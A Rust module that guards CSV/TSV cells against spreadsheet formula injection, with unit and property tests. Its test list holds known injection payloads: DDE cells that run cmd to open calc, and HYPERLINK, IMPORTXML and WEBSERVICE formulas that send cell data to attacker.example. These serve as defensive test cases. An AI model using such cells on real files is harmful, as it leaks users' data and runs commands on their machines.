//! The formula guard: keeps spreadsheets from running the texts of a CSV or TSV file.
//!
//! A text that begins with `=`, `+`, `-`, `@`, a tab, a line break or a full-width form of the four signs gets one
//! apostrophe before it; so does a text in which apostrophes come before such a sign, because [`unguard`] could not
//! tell it from a guarded one otherwise. Plain negative numbers such as `-5` and `-1234.50` stay as they are.
//! `unguard(guard(text)) == text` holds for every text; `docs/reference/formula-guard.md` states the rule for people.

use std::borrow::Cow;

/// Whether the text has to be guarded.
#[inline]
pub fn needs_guard(text: &str) -> bool {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'@' | b'\t' | b'\r' | b'\n') => true,
        Some(b'-') => !is_negative_number(text.as_bytes()),
        Some(b'\'' | 0xEF) => starts_with_trigger(text.trim_start_matches('\'')),
        _ => false,
    }
}

/// The text as it goes into a file.
pub fn guard(text: &str) -> Cow<'_, str> {
    if needs_guard(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The text as it was before [`guard`]. Only for files that were written with the guard on.
pub fn unguard(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if starts_with_trigger(rest.trim_start_matches('\'')) => rest,
        _ => text,
    }
}

fn starts_with_trigger(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

/// Whether this is `-digits` or `-digits.digits` and nothing else.
fn is_negative_number(text: &[u8]) -> bool {
    let digits = |part: &[u8]| !part.is_empty() && part.iter().all(u8::is_ascii_digit);
    let number = &text[1..];
    match number.iter().position(|byte| *byte == b'.') {
        Some(point) => digits(&number[..point]) && digits(&number[point + 1..]),
        None => digits(number),
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn every_known_injection_is_guarded() {
        // From OWASP's page on CSV injection and the published collections of such cells.
        let cases = [
            "=1+1",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://attacker.example/?leak=\"&A1&B1,\"Click\")",
            "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1),\"//a\")",
            "=WEBSERVICE(\"https://attacker.example/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "+1-1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!D2",
            "-1+1",
            "+5",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "'=1+1",
            "''@x",
            "-",
            "-5.",
            "-.5",
            "-1e5",
            "-5 ",
            "-1,5",
            "-٣",
        ];
        for case in cases {
            assert!(needs_guard(case), "{case:?}");
            assert_eq!(guard(case), format!("'{case}"));
            assert_eq!(unguard(&guard(case)), case);
        }
    }

    #[test]
    fn harmless_texts_stay_as_they_are() {
        for case in ["", "a=1", "-5", "-1234.50", "5", "'", "''", "'quoted'", " =1", "O'Neill", "\u{feff}x"] {
            assert!(!needs_guard(case), "{case:?}");
            assert_eq!(guard(case), case);
            assert_eq!(unguard(case), case);
        }
    }

    fn tricky() -> impl Strategy<Value = String> {
        let pieces = prop_oneof![
            Just("'"),
            Just("="),
            Just("+"),
            Just("-"),
            Just("@"),
            Just("\t"),
            Just("\r"),
            Just("\n"),
            Just("＝"),
            Just("＋"),
            Just("－"),
            Just("＠"),
            Just("5"),
            Just("."),
            Just("a"),
            Just(" "),
            Just("\u{feff}"),
        ];
        proptest::collection::vec(pieces, 0..6).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn the_round_trip_is_exact_for_any_text(text in any::<String>()) {
            prop_assert_eq!(unguard(&guard(&text)).to_owned(), text);
        }

        #[test]
        fn the_round_trip_is_exact_for_tricky_texts(text in tricky()) {
            prop_assert_eq!(unguard(&guard(&text)).to_owned(), text);
        }

        #[test]
        fn a_guarded_text_begins_with_no_trigger_but_a_plain_number(text in tricky()) {
            let guarded = guard(&text);
            prop_assert!(!starts_with_trigger(&guarded) || is_negative_number(guarded.as_bytes()));
        }
    }
}
